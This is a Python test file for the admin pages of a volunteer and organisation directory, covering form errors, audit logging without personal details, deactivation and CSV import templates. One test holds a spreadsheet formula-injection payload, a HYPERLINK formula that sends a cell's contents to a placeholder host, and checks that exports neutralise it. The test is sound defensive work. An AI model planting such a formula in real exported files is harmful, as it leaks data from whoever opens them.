"""Admins keep the directory in the browser: forms that say what is wrong next to each field (422, values
kept), adding and changing organisations and volunteers, deactivating and reactivating them; every change
audited (without a volunteer's personal details), the directory version moved, and matching seeing it on
the very next call."""

import re

from sqlalchemy import select

from directory.models import Organisation, Volunteer
from directory.version import STATE_ID, DirectoryState
from referrals.models import AuditEvent
from tests.builders import auth, call, token_for
from tests.web.conftest import post_form

VOLUNTEER_FORM = {
    "name": "Priya Newcomer",
    "phone": "07700 900777",
    "email": "",
    "postcode": "CV1 1AH",
    "travel_radius_km": "4",
    "skills": ["shopping", "dog_walking", "befriending"],
    "dbs_level": "enhanced",
    "dbs_checked_on": "10/01/2025",
    "dbs_expires_on": "2028-01-10",
    "availability": [
        f"{day}-{slot}"
        for day in ("mon", "tue", "wed", "thu", "fri", "sat", "sun")
        for slot in ("morning", "afternoon", "evening")
    ],
    "max_active_tasks": "3",
    "max_tasks_per_week": "5",
}
ORGANISATION_FORM = {
    "name": "Carshalton Helpers",
    "kind": "vcs",
    "area": "sutton",
    "services": ["shopping", "food"],
    "coverage_outcodes": "sm1, SM2",
    "capacity": "4",
    "opening_hours": "mon-fri 09:00-17:00",
    "contact_phone": "07700 900888",
}


def version(session_factory) -> int:
    with session_factory() as session:
        return session.scalar(select(DirectoryState.version).where(DirectoryState.id == STATE_ID))


def events(session_factory, kind: str) -> list[AuditEvent]:
    with session_factory() as session:
        return list(
            session.scalars(select(AuditEvent).where(AuditEvent.kind == kind).order_by(AuditEvent.seq))
        )


def new_id(response, kind: str) -> int:
    assert response.status_code == 302, response.get_data(as_text=True)
    return int(re.fullmatch(rf"/admin/{kind}s/(\d+)", response.headers["Location"]).group(1))


COVENTRY_CALLER = {"postcode": "CV1 1AH", "address": "3 Hill Street, Coventry"}


def offered(client, session_factory, notes: str = "Needs shopping picked up this week") -> int | None:
    """Log a call in Coventry (multi-agency cell: mutual-aid work goes to volunteers first): who gets it."""
    helpline = auth(token_for(session_factory, "helpline_staff"))
    made = client.post(
        "/api/v1/referrals", json=call(notes=notes, resident=COVENTRY_CALLER), headers=helpline
    )
    assert made.status_code == 201, made.get_json()
    return made.get_json()["current_offer"]["volunteer_id"]


def test_an_empty_volunteer_form_says_what_is_missing_next_to_each_field(signed_in):
    admin = signed_in("admin")
    page = admin.get("/admin/volunteers/new").get_data(as_text=True)
    assert 'name="csrf_token"' in page
    assert "Level of their DBS check" in page
    assert "availability-mon-morning" in page

    response = post_form(admin, "/admin/volunteers/new", {"name": "", "postcode": "", "phone": "0800"})
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "There is a problem" in html
    assert 'id="name-error"' in html
    assert "Enter a name" in html
    assert 'id="postcode-error"' in html
    assert "Enter their postcode" in html
    assert 'id="phone-error"' in html
    assert "not a valid phone number" in html
    assert 'value="0800"' in html, "what was typed is kept"


def test_a_postcode_that_cannot_be_located_and_bad_dbs_dates_are_field_errors(signed_in, session_factory):
    admin = signed_in("admin")
    before = version(session_factory)
    form = {**VOLUNTEER_FORM, "postcode": "SM99 9AA", "dbs_expires_on": "01/01/2024", "max_active_tasks": "0"}
    response = post_form(admin, "/admin/volunteers/new", form)
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'id="postcode-error"' in html
    assert "SM99 9AA is not a known postcode" in html
    assert 'id="dbs_expires_on-error"' in html
    assert "must be after the date of the check" in html
    assert 'id="max_active_tasks-error"' in html
    assert 'value="Priya Newcomer"' in html
    assert 'value="dog_walking" checked' in html, "ticked skills stay ticked"
    assert version(session_factory) == before, "nothing was written"
    with session_factory() as session:
        assert session.scalar(select(Volunteer).where(Volunteer.name == "Priya Newcomer")) is None


def test_an_admin_adds_a_volunteer_who_is_matched_on_the_next_call(app, client, signed_in, session_factory):
    assert offered(client, session_factory) is None, "the index is built, with no volunteer in Coventry"
    admin = signed_in("admin")
    before = version(session_factory)

    response = post_form(admin, "/admin/volunteers/new", VOLUNTEER_FORM)
    volunteer_id = new_id(response, "volunteer")

    page = admin.get(response.headers["Location"]).get_data(as_text=True)
    assert "Priya Newcomer has been added to the directory." in page
    assert "Enhanced, checked 10 January 2025, counts until 10 January 2028" in page
    with session_factory() as session:
        row = session.get(Volunteer, volunteer_id)
        assert (row.phone, row.postcode, row.dbs_level, row.driver) == (
            "+447700900777",
            "CV1 1AH",
            "enhanced",
            False,
        )
        assert row.availability["sun"] == ["morning", "afternoon", "evening"]
        assert row.lat is not None
        assert row.travel_radius_km == 4.0
    assert version(session_factory) > before
    [added] = events(session_factory, "directory.volunteer_added")
    assert added.payload["volunteer_id"] == volunteer_id
    assert added.actor_role == "admin"
    assert added.referral_id is None
    assert "name" in added.payload["fields"]
    assert "phone" in added.payload["fields"]
    assert "Priya" not in str(added.payload), "no personal details"
    assert "900777" not in str(added.payload), "no personal details"
    assert added.payload["values"]["skills"] == ["shopping", "dog_walking", "befriending"]

    assert offered(client, session_factory) == volunteer_id


def test_editing_a_volunteer_is_audited_by_field_and_matching_sees_it_at_once(
    client, signed_in, session_factory, directory
):
    admin = signed_in("admin")
    volunteer_id = new_id(post_form(admin, "/admin/volunteers/new", VOLUNTEER_FORM), "volunteer")
    assert offered(client, session_factory) == volunteer_id

    form = admin.get(f"/admin/volunteers/{volunteer_id}/edit").get_data(as_text=True)
    assert 'value="Priya Newcomer"' in form
    assert 'value="2028-01-10"' in form
    changed = {**VOLUNTEER_FORM, "skills": ["befriending"], "phone": "07700 900778"}
    response = post_form(admin, f"/admin/volunteers/{volunteer_id}/edit", changed)
    assert response.status_code == 302
    assert "Your changes to Priya Newcomer are saved." in admin.get(response.headers["Location"]).get_data(
        as_text=True
    )
    [event] = events(session_factory, "directory.volunteer_changed")
    assert event.payload["fields"] == ["phone", "skills"]
    assert event.payload["values"] == {"skills": ["befriending"]}, "the phone is named, not stored"

    assert offered(client, session_factory) != volunteer_id, "no longer does shopping"
    assert offered(client, session_factory, "Would like a befriender to visit weekly") == volunteer_id
    unchanged = post_form(admin, f"/admin/volunteers/{volunteer_id}/edit", changed)
    assert "Nothing was changed." in admin.get(unchanged.headers["Location"]).get_data(as_text=True)
    assert len(events(session_factory, "directory.volunteer_changed")) == 1


def test_deactivating_asks_first_says_what_happens_to_open_work_and_matching_skips_them(
    client, signed_in, session_factory
):
    admin = signed_in("admin")
    volunteer_id = new_id(post_form(admin, "/admin/volunteers/new", VOLUNTEER_FORM), "volunteer")
    assert offered(client, session_factory) == volunteer_id

    page = admin.get(f"/admin/volunteers/{volunteer_id}/deactivate").get_data(as_text=True)
    assert "Deactivate Priya Newcomer?" in page
    assert "1 offer waiting for an answer" in page
    assert "They are doing no referrals for another organisation now." in page
    unconfirmed = post_form(admin, f"/admin/volunteers/{volunteer_id}/deactivate", {})
    assert unconfirmed.status_code == 200
    assert "Deactivate Priya Newcomer?" in unconfirmed.get_data(as_text=True)
    with session_factory() as session:
        assert session.get(Volunteer, volunteer_id).active

    before = version(session_factory)
    done = post_form(admin, f"/admin/volunteers/{volunteer_id}/deactivate", {"confirm": "yes"})
    assert done.status_code == 302
    page = admin.get(done.headers["Location"]).get_data(as_text=True)
    assert "Priya Newcomer is deactivated" in page
    assert "Reactivate Priya Newcomer" in page
    assert version(session_factory) > before
    [event] = events(session_factory, "directory.volunteer_deactivated")
    assert event.payload == {
        "volunteer_id": volunteer_id,
        "open_referrals": 0,
        "pending_offers": 1,
        "work_came_back": 0,
    }
    with session_factory() as session:
        row = session.get(Volunteer, volunteer_id)
        assert (row.active, row.phone, row.name) == (False, "+447700900777", "Priya Newcomer")
    assert offered(client, session_factory) is None, "skipped: the safety net is offered it instead"

    again = post_form(
        admin, f"/admin/volunteers/{volunteer_id}/reactivate", {}, form_page=done.headers["Location"]
    )
    assert "Priya Newcomer is active again" in admin.get(again.headers["Location"]).get_data(as_text=True)
    assert len(events(session_factory, "directory.volunteer_reactivated")) == 1
    assert offered(client, session_factory) == volunteer_id


def test_an_admin_adds_and_edits_an_organisation_whose_capacity_matching_uses(signed_in, session_factory):
    admin = signed_in("admin")
    form_page = admin.get("/admin/organisations/new").get_data(as_text=True)
    assert "How many referrals it can hold at once" in form_page

    bad = post_form(
        admin,
        "/admin/organisations/new",
        {**ORGANISATION_FORM, "capacity": "-1", "kind": "mutual_aid", "radius_km": "3"},
    )
    html = bad.get_data(as_text=True)
    assert bad.status_code == 422
    assert 'id="capacity-error"' in html
    assert 'id="mutual_aid_mode-error"' in html
    assert 'id="radius_km-error"' in html

    org_id = new_id(post_form(admin, "/admin/organisations/new", ORGANISATION_FORM), "organisation")
    with session_factory() as session:
        org = session.get(Organisation, org_id)
        assert (org.capacity, org.coverage_outcodes, org.contact_phone) == (
            4,
            ["SM1", "SM2"],
            "+447700900888",
        )
        assert org.opening_hours["fri"] == [["09:00", "17:00"]]
        assert "sat" not in org.opening_hours
    [added] = events(session_factory, "directory.organisation_added")
    assert added.payload["values"]["capacity"] == 4
    assert "contact_phone" not in added.payload["values"]

    edit = admin.get(f"/admin/organisations/{org_id}/edit").get_data(as_text=True)
    assert 'value="mon 09:00-17:00; tue 09:00-17:00' in edit
    response = post_form(admin, f"/admin/organisations/{org_id}/edit", {**ORGANISATION_FORM, "capacity": "0"})
    assert response.status_code == 302
    assert "Holds up to 0 referrals at once" in admin.get(response.headers["Location"]).get_data(as_text=True)
    [changed] = events(session_factory, "directory.organisation_changed")
    assert changed.payload["fields"] == ["capacity"]

    confirm = admin.get(f"/admin/organisations/{org_id}/deactivate").get_data(as_text=True)
    assert "It holds no referrals now." in confirm
    post_form(admin, f"/admin/organisations/{org_id}/deactivate", {"confirm": "yes"})
    with session_factory() as session:
        assert not session.get(Organisation, org_id).active
    assert len(events(session_factory, "directory.organisation_deactivated")) == 1


def test_the_pages_are_for_admins_only(signed_in, directory):
    hub = signed_in("hub")
    assert hub.get("/admin/volunteers/new").status_code == 403
    assert hub.get(f"/admin/volunteers/{directory['volunteer']}/deactivate").status_code == 403
    admin = signed_in("admin")
    assert admin.get("/admin/volunteers/99999/edit").status_code == 404


def test_the_import_page_explains_every_column_and_offers_templates(signed_in):
    from directory.csv_import import ORGANISATION_COLUMNS, VOLUNTEER_COLUMNS

    admin = signed_in("admin")
    page = admin.get("/admin/imports/new").get_data(as_text=True)
    assert "directory/csv_import.py" not in page, "no more pointing at a source file"
    for column in [*ORGANISATION_COLUMNS.values(), *VOLUNTEER_COLUMNS.values()]:
        assert f"<code>{column.name}</code>" in page
    assert "enhanced_barred" in page
    for kind in ("organisations", "volunteers", "status"):
        assert f'href="/admin/imports/template/{kind}.csv"' in page
    template = admin.get("/admin/imports/template/volunteers.csv")
    assert template.status_code == 200
    assert template.mimetype == "text/csv"
    assert "attachment" in template.headers["Content-Disposition"]
    header, example = template.get_data(as_text=True).splitlines()
    assert header.split(",") == list(VOLUNTEER_COLUMNS)
    assert "SM1 1EA" in example
    assert admin.get("/admin/imports/template/people.csv").status_code == 404


def test_an_uploaded_status_file_deactivates_by_id_and_keeps_the_phone(signed_in, session_factory, directory):
    from tests.web.test_admin import finished_job, upload

    admin = signed_in("admin")
    volunteer_id = directory["volunteer"]
    content = f"id,active\n{volunteer_id},no\n".encode()
    _job, status = finished_job(admin, upload(admin, content, kind="volunteers", filename="leavers.csv"))
    assert (status["state"], status["updated"], status["error_count"]) == ("finished", 1, 0)
    with session_factory() as session:
        row = session.get(Volunteer, volunteer_id)
        assert (row.active, row.phone, row.postcode) == (False, "+447700900501", "SM1 1AA")
    [deactivated] = events(session_factory, "directory.volunteer_deactivated")
    assert deactivated.payload["volunteer_id"] == volunteer_id
    assert deactivated.payload["work_came_back"] == 0
    assert deactivated.actor_role == "admin"
    [started] = events(session_factory, "directory.import_started")
    [finished] = events(session_factory, "directory.import_finished")
    assert started.payload == {"job_id": deactivated.payload["import_job_id"], "kind": "volunteers"}
    assert (finished.payload["updated"], finished.payload["errors"]) == (1, 0)
    assert "Priya" not in str(finished.payload)


def test_an_uploaded_volunteer_file_is_audited_with_its_counts_and_no_personal_details(
    signed_in, session_factory
):
    from tests.web.test_admin import finished_job, upload

    admin = signed_in("admin")
    content = (
        b"external_id,name,phone,postcode,skills,org_id\nup:1,Priya Upload,07700 900888,SM1 1AA,shopping,1\n"
    )
    _job, status = finished_job(admin, upload(admin, content, kind="volunteers", filename="new.csv"))
    assert status["created"] == 1, status
    [finished] = events(session_factory, "directory.import_finished")
    assert (finished.payload["created"], finished.payload["kind"]) == (1, "volunteers")
    assert "Priya" not in str(finished.payload)
    assert "900888" not in str(finished.payload)


def test_volunteers_whose_dbs_check_has_no_level_are_counted_and_listed(
    signed_in, session_factory, directory
):
    from datetime import date

    with session_factory() as session:
        row = session.get(Volunteer, directory["volunteer"])
        row.dbs_checked_on, row.dbs_expires_on, row.dbs_level = date(2025, 1, 1), date(2099, 1, 1), None
        session.commit()
        name = row.name
    admin = signed_in("admin")

    page = admin.get("/admin/volunteers").get_data(as_text=True)
    assert "1 active volunteer has a DBS check with no level recorded." in page
    assert "level not recorded" in page
    listed = admin.get("/admin/volunteers?dbs=no_level").get_data(as_text=True)
    assert name in listed
    assert "1 volunteer</p>" in listed
    none = admin.get("/admin/volunteers?dbs=expired").get_data(as_text=True)
    assert "0 volunteers</p>" in none


def test_a_template_cell_that_could_start_a_formula_is_neutralised(signed_in, monkeypatch):
    import csv
    import io

    from web import admin as admin_pages

    hostile = '=HYPERLINK("http://x/?d="&A1,"Click")'
    monkeypatch.setattr(admin_pages, "template_rows", lambda _columns: [["name", "lon"], [hostile, "-0.19"]])

    template = signed_in("admin").get("/admin/imports/template/organisations.csv")

    assert list(csv.reader(io.StringIO(template.get_data(as_text=True)))) == [
        ["name", "lon"],
        ["'" + hostile, "-0.19"],
    ]


def test_an_admin_gives_an_organisation_the_address_line_its_published_address_needs(
    signed_in, session_factory
):
    admin = signed_in("admin")
    form = {
        **ORGANISATION_FORM,
        "base_postcode": "SM1 1EA",
        "base_address": "  Civic Offices,  St Nicholas Way ",
    }
    org_id = new_id(post_form(admin, "/admin/organisations/new", form), "organisation")
    with session_factory() as session:
        assert session.get(Organisation, org_id).base_address == "Civic Offices, St Nicholas Way"
    page = admin.get(f"/admin/organisations/{org_id}").get_data(as_text=True)
    assert "Civic Offices, St Nicholas Way, SM1 1EA" in page

    too_long = post_form(admin, f"/admin/organisations/{org_id}/edit", {**form, "base_address": "x" * 201})
    assert too_long.status_code == 422
    assert 'id="base_address-error"' in too_long.get_data(as_text=True)
